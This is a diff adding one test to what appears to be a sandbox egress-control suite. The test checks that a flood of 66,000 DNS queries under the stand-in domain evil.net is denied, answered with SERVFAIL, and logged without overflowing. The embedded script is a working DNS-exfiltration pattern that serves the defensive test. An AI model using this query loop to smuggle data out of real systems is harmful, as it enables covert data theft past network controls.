@@ -25,6 +25,25 @@ class Exfiltration(EgressCase):
                        f"true")
         self.assertNothingLeft()
 
+    def test_more_names_than_there_is_room_for_are_written_down(self):
+        script = ("import socket, struct\n"
+                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53))\n"
+                  "s.settimeout(20)\n"
+                  "codes = set()\n"
+                  "for n in range(66000):\n"
+                  "    name = b'%08x' % n\n"
+                  "    s.send(struct.pack('!HHHHHH', n & 65535, 256, 1, 0, 0, 0) + b'\\x08' + name"
+                  " + b'\\x04evil\\x03net\\0' + struct.pack('!HH', 1, 1))\n"
+                  "    codes.add(s.recv(500)[3] & 15)\n"
+                  "print(sorted(codes))\n")
+        box = self.newBox("manynames", DENY)
+        self.assertEqual(self.inside(script, box=box), "[0, 2]")
+        rows = self.untilLogged(box=box)
+        self.assertEqual((rows[0]["scheme"], rows[0]["verdict"]), ("dns", "deny"))
+        self.assertLess(len(rows), 100)
+        self.assertIn("SERVFAIL", rows[0]["why"])
+        self.home.must("rm", box.name)
+
     def test_asking_servers_of_one_s_own_choice_tells_nobody(self):
         script = ("import socket, struct\n"
                   f"q = struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + "
